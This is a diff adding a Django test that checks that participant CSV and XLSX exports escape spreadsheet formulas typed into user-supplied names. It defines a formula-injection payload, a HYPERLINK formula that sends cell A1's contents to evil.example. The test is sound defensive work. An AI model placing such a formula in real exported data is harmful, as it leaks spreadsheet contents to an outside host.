@@ -93,3 +93,25 @@ def test_the_online_link_is_given_to_registered_people_only(client, tours, make_
     assert "salle-42" not in client.get(reverse("programme:session", args=[online.pk])).content.decode()
     client.force_login(alice)
     assert "salle-42" in client.get(reverse("programme:session", args=[online.pk])).content.decode()
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
+
+
+def test_participants_exports_neutralise_formulas(client, forum, registered, support_user):
+    """Names typed by users reach the organisers' spreadsheets as text, never as a formula (review M1)."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    alice, _bruno = registered
+    structure = structure_of(alice)
+    structure.name = HYPERLINK
+    structure.save()
+    client.force_login(support_user)
+    text = client.get(reverse("programme:participants_csv", args=[forum.pk])).content.decode("utf-8-sig")
+    assert "'" + HYPERLINK.replace('"', '""') in text
+    content = client.get(reverse("programme:participants_xlsx", args=[forum.pk])).content
+    cells = [cell for row in load_workbook(BytesIO(content)).active.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert "'" + HYPERLINK in [c.value for c in cells]
